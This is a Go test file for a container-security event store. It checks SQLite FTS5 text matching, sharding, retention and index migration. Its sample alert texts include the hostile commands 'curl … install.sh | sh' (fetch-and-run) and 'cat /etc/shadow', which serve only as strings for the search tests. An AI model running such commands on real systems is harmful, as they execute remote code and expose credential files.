package sqlitestore

import (
	"context"
	"database/sql"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/containersec/container-security/pkg/events"
)

// The Go matcher of the unindexed tail answers as FTS5's unicode61 does on the same texts (the real FTS5 of
// modernc.org/sqlite is the oracle).
func TestTextMatcherAgreesWithFTS5(t *testing.T) {
	texts := []string{
		"10:00:01.123456789: Notice Terminal shell in container | user=root command=cat /etc/shadow",
		"Read sensitive file untrusted (file=/etc/shadow-) k8s_pod_name=web-7c9d8f6b5-x2x k8s_ns_name=shop",
		"Café crème: ÉVIL naïve façade Ünïcödé ñandú",
		"curl -s http://198.51.100.7/install.sh | sh",
		"under_score dotted.name CamelCase ALLCAPS x86_64 42 3.14",
		"e\u0301tude (combining accent) ﬁle ligature Straße İstanbul",
		"日本語 テキスト 中文 한국어",
		"shadowed shadows shadow sha",
		"",
	}
	fts5 := fts5Oracle(t, texts)
	queries := []string{"shadow", "shad", "SHADOW", "etc shadow", "etc/shad", "cat /etc/sh", "terminal shell", "shell terminal",
		"cafe", "CRÈME", "evil naive", "unicode", "nandu", "web-7c9", "198.51", "install.sh", "under_score", "dotted.na",
		"camelcase", "x86", "3.14", "etude", "file", "strasse", "straße", "istanbul", "日本語", "テキ", "한국",
		"sha", "s", "7", "---", `"`, "", "NEAR(a b) OR *", "shadow-", "k8s_ns_name=shop"}
	for _, q := range queries {
		want := fts5(q)
		m := newTextMatcher(q)
		for i, tx := range texts {
			if got := strings.TrimSpace(q) != "" && m.match(tx); got != want[i] {
				t.Errorf("%q on %q: matcher %v, FTS5 %v (words %q)", q, tx, got, want[i], ftsWords(tx))
			}
		}
	}
}

// fts5Oracle indexes texts in a real FTS5 table (modernc.org/sqlite's) and answers which of them a free text
// matches there, by index.
func fts5Oracle(t *testing.T, texts []string) func(q string) map[int]bool {
	t.Helper()
	db, err := sql.Open("sqlite", ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	db.SetMaxOpenConns(1)
	if _, err := db.Exec(`CREATE VIRTUAL TABLE x USING fts5 (output)`); err != nil {
		t.Fatal(err)
	}
	for i, tx := range texts {
		if _, err := db.Exec(`INSERT INTO x (rowid, output) VALUES (?, ?)`, i, tx); err != nil {
			t.Fatal(err)
		}
	}
	return func(q string) map[int]bool {
		want := map[int]bool{}
		m := textQuery(q)
		if m == "" {
			return want
		}
		rows, err := db.Query(`SELECT rowid FROM x WHERE x MATCH ?`, "output : "+m)
		if err != nil {
			t.Fatalf("%q: %v", q, err)
		}
		defer rows.Close()
		for rows.Next() {
			var id int
			_ = rows.Scan(&id)
			want[id] = true
		}
		return want
	}
}

// The matcher's in-place paths for ASCII outputs (matchASCII, matchLower) agree with FTS5 on random texts and queries built
// from letters of both cases, digits and separators, where words and prefixes collide often.
func TestTextMatcherAgreesWithFTS5OnRandomASCII(t *testing.T) {
	rng := rand.New(rand.NewPCG(3, 5))
	const alphabet = "abAB01 -/._"
	random := func(n int) string {
		b := make([]byte, rng.IntN(n))
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		return string(b)
	}
	texts := make([]string, 2000)
	for i := range texts {
		texts[i] = random(24)
	}
	fts5 := fts5Oracle(t, texts)
	for range 300 {
		q := random(8)
		m := newTextMatcher(q)
		if textQuery(q) == "" || len(m.words) == 0 {
			continue
		}
		want := fts5(q)
		for i, tx := range texts {
			if got := m.match(tx); got != want[i] {
				t.Fatalf("%q on %q: matcher %v, FTS5 %v", q, tx, got, want[i])
			}
			if got := m.matchLower(strings.ToLower(tx)); got != want[i] { // the tail in memory keeps outputs lower-cased
				t.Fatalf("%q on %q: matchLower %v, FTS5 %v", q, tx, got, want[i])
			}
		}
	}
}

// While the FTS writer cannot write (another connection holds the index file's write lock), filtered and
// free-text queries still find the acknowledged events: from the tail, not by waiting for the index.
func TestQueriesAnswerTheUnindexedTail(t *testing.T) {
	s := openTest(t, Config{})
	ingest(t, s, ev(t, 1, "Critical", "Terminal shell in container", "shop", "web-1", "shell"))
	// The first event indexed, and a busy timeout: BEGIN IMMEDIATE while the index writer still commits it was
	// SQLITE_BUSY at once on a loaded machine (a fresh-clone CI run).
	s.waitIndexed(context.Background())
	unlock := lockIndex(t, s)
	defer unlock()
	ingest(t, s,
		ev(t, 2, "Warning", "Read sensitive file untrusted", "shop", "web-2", "filesystem"),
		ev(t, 3, "Critical", "Terminal shell in container", "kube-system", "dns-1", "shell"))
	if s.indexedIns.Load() >= s.committedIns.Load() {
		t.Fatal("the test needs events the index does not hold yet")
	}
	from, to := allRange()
	crit := events.Critical
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second) // waiting for the index would take 5 s
	defer cancel()
	for name, c := range map[string]struct {
		f    events.Filters
		want string
	}{
		"text":          {events.Filters{Text: "terminal shel"}, "id-3,id-1"},
		"namespace":     {events.Filters{Namespaces: []string{"shop"}}, "id-2,id-1"},
		"priority":      {events.Filters{MinPriority: &crit}, "id-3,id-1"},
		"tag and text":  {events.Filters{Tags: []string{"filesystem"}, Text: "sensitive"}, "id-2"},
		"pod, no match": {events.Filters{Pods: []string{"web-1"}, Text: "sensitive"}, ""},
	} {
		p, err := s.List(ctx, events.ListRequest{From: from, To: to, Filters: c.f})
		if err != nil || ids(p) != c.want {
			t.Errorf("%s: %q %v, want %q", name, ids(p), err, c.want)
		}
	}
	c, err := s.Count(ctx, events.CountRequest{From: from, To: to, GroupBy: events.DimPriority, Bucket: time.Hour, Filters: events.Filters{Text: "terminal"}})
	if err != nil || len(c.Series) != 1 || c.Series[0].Value != "Critical" || slices.Max(c.Series[0].Counts) != 2 {
		t.Fatalf("count from the index and the tail: %+v %v", c, err)
	}
	if e, err := s.Get(ctx, "id-2"); err != nil || e.Rule != "Read sensitive file untrusted" {
		t.Fatalf("get from the tail: %v %v", e, err)
	}
	if ctx.Err() != nil {
		t.Fatal("a query waited for the index")
	}
	unlock()
	s.waitIndexed(context.Background())
	if n, err := ftsEntriesOf(s, "id-3"); err != nil || n != 1 {
		t.Fatalf("indexed once the lock went: %d %v", n, err)
	}
}

// lockIndex holds the index file's write lock, so the FTS writer indexes nothing until unlock (which may be called
// more than once). The index must not be mid-commit: wait for it first (BEGIN IMMEDIATE while the index writer still
// committed was SQLITE_BUSY at once on a loaded machine, in a fresh-clone CI run; hence the busy timeout too).
func lockIndex(t *testing.T, s *Store) (unlock func()) {
	t.Helper()
	lock, err := sql.Open("sqlite", "file:"+escapePath(FTSPath(s.Path()))+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	lock.SetMaxOpenConns(1)
	conn, err := lock.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.ExecContext(context.Background(), `BEGIN IMMEDIATE`); err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	unlock = func() {
		once.Do(func() {
			_, _ = conn.ExecContext(context.Background(), `ROLLBACK`)
			conn.Close()
			lock.Close()
		})
	}
	t.Cleanup(unlock)
	return unlock
}

// Counts by priority with free text come from each shard's keys alone; they equal counting the listed events by
// their times, also for keys moved past a bucket's start by events sharing a nanosecond, and at the range's ends.
func TestFreeTextCountFromShardsEqualsEvents(t *testing.T) {
	s := openTest(t, Config{})
	var evs []events.Event
	prios := []string{"Critical", "Warning", "Notice", "Error"}
	for i := range 400 {
		e := ev(t, i, prios[i%4], "Rule", "ns", "pod")
		e.Time = t0.Add(time.Duration(i/4) * time.Minute) // four events on each minute's first nanosecond
		if i%5 == 0 {
			e.Time = e.Time.Add(-time.Nanosecond) // and some one before it: their keys move into the next minute
		}
		if i%7 == 0 {
			e.Output = "nothing to find here"
		}
		evs = append(evs, e)
	}
	ingest(t, s, evs...)
	s.waitIndexed(context.Background())
	for _, r := range []struct{ from, to time.Time }{
		{t0.Add(-time.Hour), t0.Add(3 * time.Hour)},
		{t0.Add(10 * time.Minute), t0.Add(50 * time.Minute)},                   // ends on events' times
		{t0.Add(10*time.Minute - time.Nanosecond), t0.Add(50*time.Minute - 1)}, // ends between moved keys
	} {
		for _, bucket := range []time.Duration{time.Minute, 7 * time.Minute, time.Second} {
			f := events.Filters{Text: "curl"}
			c, err := s.Count(context.Background(), events.CountRequest{From: r.from, To: r.to, GroupBy: events.DimPriority, Bucket: bucket, Filters: f})
			if err != nil {
				t.Fatal(err)
			}
			want := map[string]map[int64]int64{}
			start := c.Start.UnixNano()
			for _, e := range evs {
				if e.Time.Before(r.from) || e.Time.After(r.to) || !strings.Contains(e.Output, "curl") {
					continue
				}
				p := e.Priority.String()
				if want[p] == nil {
					want[p] = map[int64]int64{}
				}
				want[p][(e.Time.UnixNano()-start)/int64(bucket)]++
			}
			got := map[string]map[int64]int64{}
			for _, se := range c.Series {
				for b, n := range se.Counts {
					if n > 0 {
						if got[se.Value] == nil {
							got[se.Value] = map[int64]int64{}
						}
						got[se.Value][int64(b)] = n
					}
				}
			}
			if fmt.Sprint(got) != fmt.Sprint(want) {
				t.Fatalf("%s..%s by %s: %v, want %v", r.from, r.to, bucket, got, want)
			}
		}
	}
}

// Events of several days live in one table per day and priority; retention drops a day's tables with its last
// event, and a query over both days merges them newest first.
func TestShardsPerDayAndPriorityGoWithRetention(t *testing.T) {
	now := t0.Add(10 * 24 * time.Hour)
	s := openTest(t, Config{RetentionDays: 7, Now: func() time.Time { return now }})
	old1, old2 := ev(t, 1, "Critical", "A", "shop", "web-1"), ev(t, 2, "Notice", "A", "shop", "web-1")
	fresh1, fresh2 := ev(t, 3, "Critical", "A", "shop", "web-1"), ev(t, 4, "Warning", "A", "shop", "web-1")
	fresh1.Time, fresh2.Time = now.Add(-25*time.Hour), now.Add(-time.Hour)
	ingest(t, s, old1, old2, fresh1, fresh2)
	s.waitIndexed(context.Background())
	tables := func() []string {
		tx, err := s.r.Begin()
		if err != nil {
			t.Fatal(err)
		}
		defer tx.Rollback() //nolint:errcheck
		shards, err := listShards(context.Background(), tx, "fts", math.MinInt64, math.MaxInt64, int(events.Debug))
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, sh := range shards {
			out = append(out, sh.table())
		}
		return out
	}
	day := func(tm time.Time) string { return fmt.Sprint(tm.UnixNano() / shardPeriod) }
	want := []string{"events_fts_d" + day(fresh2.Time) + "_p4", "events_fts_d" + day(fresh1.Time) + "_p2", "events_fts_d" + day(old1.Time) + "_p2", "events_fts_d" + day(old1.Time) + "_p5"}
	if got := tables(); fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("shards %v, want %v", got, want)
	}
	p, err := s.List(context.Background(), events.ListRequest{From: t0.Add(-time.Hour), To: now, Filters: events.Filters{Namespaces: []string{"shop"}}, Limit: 3})
	if err != nil || ids(p) != "id-4,id-3,id-2" || p.NextCursor == "" {
		t.Fatalf("across days: %q %v", ids(p), err)
	}
	p, err = s.List(context.Background(), events.ListRequest{From: t0.Add(-time.Hour), To: now, Filters: events.Filters{Namespaces: []string{"shop"}}, Limit: 3, Cursor: p.NextCursor})
	if err != nil || ids(p) != "id-1" || p.NextCursor != "" {
		t.Fatalf("next page: %q %v", ids(p), err)
	}
	if n := s.PruneNow(); n != 2 {
		t.Fatalf("pruned %d", n)
	}
	if got := tables(); fmt.Sprint(got) != fmt.Sprint(want[:2]) {
		t.Fatalf("after retention %v, want %v", got, want[:2])
	}
	if err := ftsIntegrityCheck(s); err != nil {
		t.Fatal(err)
	}
}

// A store written by the code of the one-table index (testdata: made by commit fca487a) opens: the old table goes,
// every event is indexed again into a table per day and priority, and free text, filters and Get find them.
func TestOpensAStoreOfTheOneTableIndex(t *testing.T) {
	dir := t.TempDir()
	for _, f := range []string{"events.db", "events.db-fts"} {
		b, err := os.ReadFile(filepath.Join("testdata", "v3-one-fts-table", f))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, f), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	var logs []string
	s := openTest(t, Config{Path: filepath.Join(dir, "events.db"), Logf: func(msg string, _ ...any) { logs = append(logs, msg) }})
	var n int
	if err := s.r.QueryRow(`SELECT count(*) FROM fts.sqlite_master WHERE name = 'events_fts'`).Scan(&n); err != nil || n != 0 {
		t.Fatalf("old table left: %d %v", n, err)
	}
	from, to := t0.Add(-time.Hour), t0.Add(3*24*time.Hour)
	for text, want := range map[string]string{"terminal shell": "fixture-2,fixture-0", "etc/shad": "fixture-1", "nothing": ""} {
		p, err := s.List(context.Background(), events.ListRequest{From: from, To: to, Filters: events.Filters{Text: text}})
		if err != nil || ids(p) != want {
			t.Fatalf("free text %q after the rebuild: %q %v", text, ids(p), err)
		}
	}
	crit := events.Critical
	p, err := s.List(context.Background(), events.ListRequest{From: from, To: to, Filters: events.Filters{Namespaces: []string{"shop"}, MinPriority: &crit}})
	if err != nil || ids(p) != "fixture-0" {
		t.Fatalf("filters after the rebuild: %q %v", ids(p), err)
	}
	if e, err := s.Get(context.Background(), "fixture-1"); err != nil || e.Pod != "web-2" {
		t.Fatalf("get: %v %v", e, err)
	}
	if !slices.ContainsFunc(logs, func(m string) bool { return strings.Contains(m, "builds its index") }) {
		t.Fatalf("the rebuild is not logged: %q", logs)
	}
	if err := ftsIntegrityCheck(s); err != nil {
		t.Fatal(err)
	}
	if n, err := ftsEntriesOf(s, "fixture-2"); err != nil || n != 1 {
		t.Fatalf("entries of fixture-2: %d %v", n, err)
	}
}

// More shards than one statement of Get reads (100, under SQLite's 500 terms of a compound SELECT): Get and
// filtered lists still find every event.
func TestManyShards(t *testing.T) {
	s := openTest(t, Config{})
	prios := []string{"Critical", "Warning"}
	var evs []events.Event
	for i := range 65 {
		for j, p := range prios {
			e := ev(t, i*10+j, p, "A", "shop", "web-1")
			e.Time = t0.Add(-time.Duration(i) * 24 * time.Hour)
			evs = append(evs, e)
		}
	}
	ingest(t, s, evs...)
	for s.indexedIns.Load() < s.committedIns.Load() {
		s.waitIndexed(context.Background())
	}
	if n, err := ftsEntriesOf(s, "id-641"); err != nil || n != 1 {
		t.Fatalf("entries %d %v", n, err)
	}
	for _, id := range []string{"id-0", "id-641", "id-320"} {
		if e, err := s.Get(context.Background(), id); err != nil || e.ID != id {
			t.Fatalf("get %s: %v %v", id, e, err)
		}
	}
	var all []string
	cursor := ""
	for {
		p, err := s.List(context.Background(), events.ListRequest{From: t0.Add(-200 * 24 * time.Hour), To: t0.Add(time.Hour), Filters: events.Filters{Text: "curl", Namespaces: []string{"shop"}}, Limit: 200, Cursor: cursor})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range p.Events {
			all = append(all, e.ID)
		}
		if cursor = p.NextCursor; cursor == "" {
			break
		}
	}
	if len(all) != 130 || all[0] != "id-1" || all[129] != "id-640" { // a day's two events share a nanosecond: the later key first
		t.Fatalf("%d events, first %s", len(all), all[0])
	}
}
